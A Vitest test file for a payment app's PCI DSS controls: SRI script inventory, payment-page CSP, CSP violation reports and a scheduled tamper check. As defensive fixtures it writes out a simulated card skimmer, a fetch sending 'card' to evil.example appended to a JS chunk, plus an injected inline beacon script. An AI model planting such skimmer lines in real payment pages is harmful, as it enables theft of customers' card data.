import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { staffToken } from '../../seed/seed-staff.js';
import { freePort, startPaymentTestEnv, type PaymentTestEnv } from '../../../test/support/payment-fixtures.js';
import { buildScriptInventory, readScriptInventory, sri } from '../../http/script-inventory.js';
import { runScheduledTamperCheck } from './run-tamper-check.js';

/** Issue 11, PCI DSS 6.4.3 / 11.6.1: script inventory with SRI, the payment page's CSP and reports, the tamper check. */
const INDEX = `<!doctype html>
<html lang="en">
  <head>
    <meta charset="UTF-8" />
    <title>Paylink</title>
    <script type="module" crossorigin src="/assets/index-AAAA1111.js"></script>
    <link rel="modulepreload" crossorigin href="/assets/layout-BBBB2222.js">
    <style>body{margin:0}</style>
  </head>
  <body><div id="root"></div></body>
</html>
`;

let dist: string;
let env: PaymentTestEnv;
let origin: string;
let admin: Record<string, string>;

function writeDist(dir: string) {
  fs.mkdirSync(path.join(dir, 'assets'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'index.html'), INDEX);
  fs.writeFileSync(path.join(dir, 'assets/index-AAAA1111.js'), 'import("./payment-CCCC3333.js");console.log("app")');
  fs.writeFileSync(path.join(dir, 'assets/layout-BBBB2222.js'), 'export const layout = 1;');
  fs.writeFileSync(path.join(dir, 'assets/payment-CCCC3333.js'), 'export const pay = () => 1;');
}

beforeAll(async () => {
  dist = fs.mkdtempSync(path.join(os.tmpdir(), 'paylink-dist-'));
  writeDist(dist);
  buildScriptInventory(dist);
  const port = await freePort();
  origin = `http://127.0.0.1:${port}`;
  env = await startPaymentTestEnv({ PUBLIC_URL: origin, WEB_DIST_DIR: dist, TAMPER_CHECK_INTERVAL: '1h' });
  await env.app.listen({ port, host: '127.0.0.1' });
  admin = { authorization: `Bearer ${await staffToken(env.ctx.db, { email: 'owner@example.com', role: 'admin' })}` };
}, 60_000);
afterAll(async () => {
  await env?.close();
  fs.rmSync(dist, { recursive: true, force: true });
});

describe('the build-time script inventory (6.4.3)', () => {
  it('puts Subresource Integrity on every script tag and an import map covering every chunk, lazy ones included', () => {
    const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
    const entry = sri(fs.readFileSync(path.join(dist, 'assets/index-AAAA1111.js')));
    expect(html).toContain(`src="/assets/index-AAAA1111.js" integrity="${entry}"`);
    expect(html).toMatch(/href="\/assets\/layout-BBBB2222.js" integrity="sha384-/);
    const map = JSON.parse(/<script type="importmap">(.*?)<\/script>/.exec(html)![1]!);
    expect(Object.keys(map.integrity).sort()).toEqual([
      '/assets/index-AAAA1111.js',
      '/assets/layout-BBBB2222.js',
      '/assets/payment-CCCC3333.js',
    ]);
    // The import map comes before the first module script, as browsers require.
    expect(html.indexOf('importmap')).toBeLessThan(html.indexOf('type="module"'));
    const inventory = readScriptInventory(dist)!;
    expect(inventory.assets.map((a) => [a.path, a.loadedAs])).toEqual([
      ['/assets/index-AAAA1111.js', 'entry'],
      ['/assets/layout-BBBB2222.js', 'preload'],
      ['/assets/payment-CCCC3333.js', 'lazy'],
    ]);
    expect(inventory.assets.every((a) => a.justification.length > 10)).toBe(true);
  });

  it('gives the same page when run twice (no doubled attributes or import maps)', () => {
    const copy = fs.mkdtempSync(path.join(os.tmpdir(), 'paylink-dist-'));
    writeDist(copy);
    const first = buildScriptInventory(copy);
    const again = buildScriptInventory(copy);
    expect(again.indexSha256).toBe(first.indexSha256);
    expect(fs.readFileSync(path.join(copy, 'index.html'), 'utf8').match(/importmap/g)).toHaveLength(1);
    fs.rmSync(copy, { recursive: true, force: true });
  });
});

describe("the payment page's headers and the staff inventory", () => {
  it('serves the payment page with a CSP that allows exactly the inventoried scripts and reports violations', async () => {
    const r = await fetch(`${origin}/paymentauthorization`);
    expect(r.status).toBe(200);
    const csp = r.headers.get('content-security-policy')!;
    const scriptSrc = /script-src ([^;]+)/.exec(csp)![1]!.split(' ');
    const inline = readScriptInventory(dist)!.inlineScripts[0]!.cspHash;
    expect(scriptSrc).toEqual(["'self'", inline, env.gatewayOrigin]);
    expect(csp).toContain(`report-uri ${origin}/api/csp-report`);
    expect(csp).toContain('report-to csp-endpoint');
    expect(csp).toContain("object-src 'none'");
    expect(r.headers.get('reporting-endpoints')).toBe(`csp-endpoint="${origin}/api/csp-report"`);
  });

  it('lists every script for admins, ours with integrity and the gateway scripts by URL; others get 403', async () => {
    const r = await env.app.inject({ method: 'GET', url: '/api/admin/compliance/scripts', headers: admin });
    expect(r.statusCode).toBe(200);
    const body = r.json();
    expect(body.built).toBe(true);
    const urls = body.scripts.map((s: { url: string }) => s.url);
    expect(urls).toContain('/assets/payment-CCCC3333.js');
    // The sandbox gateway's scripts carry a version of their text (`?v=`): the inventory lists the URLs as loaded.
    expect(urls.map((u: string) => u.replace(/\?v=[\w-]+$/, ''))).toEqual(
      expect.arrayContaining([
        `${env.gatewayOrigin}/hosted-payments/Checkout.js`,
        `${env.gatewayOrigin}/3ds2/web-sdk.js`,
      ]),
    );
    expect(
      urls.filter((u: string) => u.startsWith(env.gatewayOrigin)).every((u: string) => /\?v=[\w-]+$/.test(u)),
    ).toBe(true);
    expect(body.contentSecurityPolicy).toContain('script-src');
    const coordinator = {
      authorization: `Bearer ${await staffToken(env.ctx.db, { email: 'c@example.com', role: 'coordinator' })}`,
    };
    const refused = await env.app.inject({
      method: 'GET',
      url: '/api/admin/compliance/scripts',
      headers: coordinator,
    });
    expect(refused.statusCode).toBe(403);
  });
});

describe('CSP violation reports (11.6.1)', () => {
  it('stores both report formats without the URL query (patient link ids), and shows them to admins', async () => {
    const legacy = await fetch(`${origin}/api/csp-report`, {
      method: 'POST',
      headers: { 'content-type': 'application/csp-report' },
      body: JSON.stringify({
        'csp-report': {
          'document-uri': `${origin}/auth?id=SECRET_LINK_ID_123456789`,
          'blocked-uri': 'https://evil.example/skim.js?x=1',
          'effective-directive': 'script-src-elem',
          'line-number': 3,
        },
      }),
    });
    expect(legacy.status).toBe(204);
    const modern = await fetch(`${origin}/api/csp-report`, {
      method: 'POST',
      headers: { 'content-type': 'application/reports+json' },
      body: JSON.stringify([
        {
          type: 'csp-violation',
          url: `${origin}/paymentauthorization`,
          body: {
            documentURL: `${origin}/paymentauthorization`,
            blockedURL: 'inline',
            effectiveDirective: 'script-src',
          },
        },
        { type: 'deprecation', body: {} },
      ]),
    });
    expect(modern.status).toBe(204);
    const list = await env.app.inject({ method: 'GET', url: '/api/admin/compliance/csp-reports', headers: admin });
    expect(list.statusCode).toBe(200);
    const { reports, total } = list.json();
    expect(total).toBe(2);
    expect(reports.map((x: { blockedUri: string }) => x.blockedUri)).toEqual([
      'inline',
      'https://evil.example/skim.js',
    ]);
    expect(JSON.stringify(reports)).not.toContain('SECRET_LINK_ID');
  });

  it('refuses a report that is not JSON or not a report with a 400', async () => {
    const bad = await fetch(`${origin}/api/csp-report`, {
      method: 'POST',
      headers: { 'content-type': 'application/csp-report' },
      body: '{not json',
    });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { message?: string }).message).toBeTruthy();
    const wrong = await fetch(`${origin}/api/csp-report`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"hello":"world"}',
    });
    expect(wrong.status).toBe(400);
  });
});

describe('the tamper check (11.6.1)', () => {
  const outboxAlerts = async () =>
    (
      await env.ctx.db.query<{ n: string }>(
        `select count(*)::text as n from outbox_message where kind = 'compliance-alert' and to_address = 'owner@example.com'`,
      )
    ).rows[0]!.n;

  it('passes on the page as built, fails and alerts once when a chunk changes, alerts again on a new change', async () => {
    const run = () => env.app.inject({ method: 'POST', url: '/api/admin/compliance/tamper-check', headers: admin });
    const clean = await run();
    expect(clean.statusCode).toBe(200);
    expect(clean.json()).toMatchObject({ ok: true, findings: [], alerted: false });
    expect(clean.json().scriptsChecked).toBe(5);

    // A skimmer appended to the payment step's lazy chunk on the server.
    fs.appendFileSync(path.join(dist, 'assets/payment-CCCC3333.js'), ';fetch("https://evil.example/?c="+card)');
    const tampered = (await run()).json();
    expect(tampered.ok).toBe(false);
    expect(tampered.findings).toEqual([{ kind: 'script_changed', detail: '/assets/payment-CCCC3333.js' }]);
    expect(tampered.alerted).toBe(true);
    expect(await outboxAlerts()).toBe('1');
    const audit = await env.ctx.db.query(`select 1 from audit_event where action = 'compliance.tamper_detected'`);
    expect(audit.rowCount).toBe(1);

    // The same problem the next day: recorded, not mailed again.
    expect((await run()).json()).toMatchObject({ ok: false, alerted: false });
    expect(await outboxAlerts()).toBe('1');

    // A new inline script in the page: a new finding, a new alert.
    const indexPath = path.join(dist, 'index.html');
    const html = fs.readFileSync(indexPath, 'utf8');
    fs.writeFileSync(
      indexPath,
      html.replace('</body>', '<script>new Image().src="https://evil.example"</script></body>'),
    );
    const kinds = (await run()).json().findings.map((f: { kind: string }) => f.kind);
    expect(kinds).toEqual(expect.arrayContaining(['index_changed', 'unknown_inline_script', 'script_changed']));
    expect(await outboxAlerts()).toBe('2');

    const history = await env.app.inject({
      method: 'GET',
      url: '/api/admin/compliance/tamper-checks?limit=10',
      headers: admin,
    });
    expect(history.json().checks.map((c: { ok: boolean }) => c.ok)).toEqual([false, false, false, true]);
  });

  it('runs the scheduled check once when due, even with several processes asking at once', async () => {
    await env.ctx.db.query(`insert into tamper_check_schedule (id, next_run_at) values (1, now() - interval '1 second')
      on conflict (id) do update set next_run_at = excluded.next_run_at`);
    const results = await Promise.all([1, 2, 3].map(() => runScheduledTamperCheck(env.ctx, dist)));
    expect(results.filter(Boolean)).toHaveLength(1);
    expect(await runScheduledTamperCheck(env.ctx, dist)).toBeNull();
    const next = await env.ctx.db.query<{ later: boolean }>(
      `select next_run_at > now() + interval '59 minutes' as later from tamper_check_schedule`,
    );
    expect(next.rows[0]!.later).toBe(true);
  });
});
